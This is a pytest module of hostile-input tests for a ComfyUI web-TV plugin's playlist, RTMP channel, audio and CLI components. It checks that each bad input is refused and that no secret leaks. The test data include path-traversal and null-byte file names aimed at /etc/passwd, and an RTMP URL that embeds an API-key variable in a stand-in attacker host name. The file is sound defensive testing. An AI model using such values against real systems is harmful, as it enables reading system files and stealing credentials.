"""Hostile inputs for the playlist, channel, audio-fit and shot-writer nodes, and the CLI (issue 11).

Cases whose fix belongs to another change and had not landed when this suite was written are
``xfail(strict=True)``: they turn into failures (to be unmarked) the moment the fix lands.
"""

from __future__ import annotations

import math
import os
import subprocess
import sys

import pytest
import torch

from comfyui_webtv import NODE_CLASS_MAPPINGS
from comfyui_webtv.workflow import runner

from .test_hostile_inputs import refused

AUDIO = {"waveform": torch.zeros(1, 2, 800), "sample_rate": 8000}
VIDEO = torch.rand(4, 8, 8, 3)


def call(node: str, **kwargs):
    instance = NODE_CLASS_MAPPINGS[node]()
    return getattr(instance, instance.FUNCTION)(**kwargs)


# ---------------------------------------------------------------- playlist (point 5, 6)

@pytest.mark.parametrize("filename", [".", "..", "WebTV/..", "/etc/x.ffconcat", "a\x00b.ffconcat", ""])
def test_playlist_filename(hostile, filename):
    refused(hostile, lambda: call("WebTVFFConcatPlaylist", clips="", filename=filename, mode="replace", paths="relative"), "filename")


@pytest.mark.parametrize("clips", ["../x.mp4", "/etc/passwd", "a.mp4\x00/etc/passwd"])
def test_playlist_clips_outside(hostile, clips):
    refused(hostile, lambda: call("WebTVFFConcatPlaylist", clips=clips, filename="WebTV/p.ffconcat", mode="replace", paths="relative"), "clips")


# ---------------------------------------------------------------- channel (points 1, 15)

CHANNEL = dict(playlist="adv.ffconcat", channel="adv", local_preview=False, mode="clips", width=64, height=64, fps=8.0,
               video_kbps=200, audio_kbps=64, sample_rate="48000", keyframe_seconds=2.0, preset="ultrafast")


@pytest.fixture
def playlist(hostile):
    with open(os.path.join(hostile["output"], "adv.ffconcat"), "w") as f:
        f.write("ffconcat version 1.0\n")


@pytest.mark.parametrize("outputs,name", [
    ("rtmp://127.0.0.1/live/${WEBTV_LLM_API_KEY}", "outputs"),
    ("rtmp://${WEBTV_LLM_API_KEY}.attacker.example/live/x", "outputs"),
    ("rtmp://127.0.0.1:99999/live/x", "outputs"),
    ("rtmp://[::1/live/x", "outputs"),
])
def test_channel_outputs(hostile, playlist, outputs, name):
    text = refused(hostile, lambda: call("WebTVRTMPChannel", outputs=outputs, **CHANNEL), name)
    assert hostile["secret"] not in text


@pytest.mark.parametrize("field,value", [("fps", math.nan), ("fps", math.inf), ("keyframe_seconds", math.nan), ("width", 60000)])
def test_channel_numbers(hostile, playlist, field, value):
    refused(hostile, lambda: call("WebTVRTMPChannel", outputs="rtmp://127.0.0.1:1/live/x", **{**CHANNEL, field: value}), field)


def test_channel_preview_port(hostile, playlist):
    refused(hostile, lambda: call("WebTVRTMPChannel", outputs="rtmp://127.0.0.1:1/live/x", preview_port=99999, **CHANNEL), "preview_port")


# ---------------------------------------------------------------- fit audio to video (points 11, 15)

@pytest.mark.parametrize("field,value", [("fps", math.nan), ("fps", 0.0), ("fade_in", math.nan), ("fade_out", -math.inf)])
def test_fit_audio_numbers(hostile, field, value):
    args = dict(audio=AUDIO, video=VIDEO, fps=8.0, sample_rate="48000", when_shorter="loop", fade_in=0.0, fade_out=0.0)
    refused(hostile, lambda: call("WebTVFitAudioToVideo", **{**args, field: value}), field)


@pytest.mark.parametrize("rate", [math.nan, 0, -44100])
def test_fit_audio_sample_rate_of_input(hostile, rate):
    args = dict(audio={**AUDIO, "sample_rate": rate}, video=VIDEO, fps=8.0, sample_rate="48000", when_shorter="loop", fade_in=0.0, fade_out=0.0)
    refused(hostile, lambda: call("WebTVFitAudioToVideo", **args), "audio")


def test_fit_audio_odd_rate_is_accepted(hostile):
    args = dict(audio={"waveform": torch.rand(1, 1, 44101) * 0.1, "sample_rate": 44101}, video=VIDEO, fps=8.0,
                sample_rate="48000", when_shorter="loop", fade_in=0.0, fade_out=0.0)
    out = call("WebTVFitAudioToVideo", **args)[0]
    assert out["sample_rate"] == 48000 and out["waveform"].shape[-1] == 4 * 48000 // 8


# ---------------------------------------------------------------- the runner refuses bad widgets before any node runs

@pytest.mark.parametrize("value", [math.nan, math.inf, 2**64, -1])
def test_runner_refuses_bad_seed_and_numbers(hostile, value):
    api = {"1": {"class_type": "WebTVShotWriter", "inputs": {"theme": "a boat", "shots": 1, "style": "", "seed": value,
                                                              "backend": "template", "endpoint_url": "", "model": ""}},
           "2": {"class_type": "WebTVSaveVideo", "inputs": {"images": ["1", 0], "fps": 8.0, "filename_prefix": "x", "crf": 20}}}
    refused(hostile, lambda: runner.run(api), "seed")


# ---------------------------------------------------------------- CLI

@pytest.mark.parametrize("argv,needle", [
    (["queue", "/nonexistent/wf.json", "--server", "http://127.0.0.1:9", "--no-download"], "workflow"),
    (["queue", "--timeout", "nan", "x.json"], "timeout"),
])
def test_cli_refuses(hostile, argv, needle):
    proc = subprocess.run([sys.executable, "-m", "comfyui_webtv", *argv], capture_output=True, text=True, timeout=120,
                          cwd=hostile["output"])
    assert proc.returncode != 0 and needle in (proc.stdout + proc.stderr)
    assert hostile["secret"] not in proc.stdout + proc.stderr
